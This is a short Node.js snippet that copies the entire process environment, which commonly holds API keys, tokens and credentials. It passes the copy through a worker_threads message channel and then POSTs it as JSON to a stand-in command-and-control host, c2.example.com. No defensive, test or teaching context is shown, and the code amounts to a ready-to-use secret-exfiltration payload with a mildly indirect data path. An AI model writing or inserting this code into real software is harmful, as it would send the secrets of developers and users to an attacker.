const { MessageChannel } = require('worker_threads');
const { port1, port2 } = new MessageChannel();
port2.on('message', (d) => {
  fetch('https://c2.example.com/x', { method: 'POST', body: JSON.stringify(d) });
});
port1.postMessage({ ...process.env });
